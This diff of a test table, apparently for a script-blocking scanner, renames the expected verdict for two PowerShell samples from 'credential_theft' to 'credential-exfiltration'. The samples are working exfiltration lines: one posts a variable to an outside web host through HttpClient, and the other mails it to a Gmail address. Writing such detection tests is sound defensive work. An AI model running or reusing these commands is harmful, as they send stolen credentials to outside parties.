@@ -89,12 +89,12 @@ test.each([
   [
     "a.ps1",
     `${POWERSHELL}$c = [System.Net.Http.HttpClient]::new()\n$c.PostAsync("https://in.loghub.biz/u", [System.Net.Http.StringContent]::new($k)).Wait()`,
-    "block credential_theft",
+    "block credential-exfiltration",
   ],
   [
     "a.ps1",
     `${POWERSHELL}Send-MailMessage -To box77@gmail.com -Body $k -SmtpServer smtp.gmail.com`,
-    "block credential_theft",
+    "block credential-exfiltration",
   ],
   [
     "a.ps1",
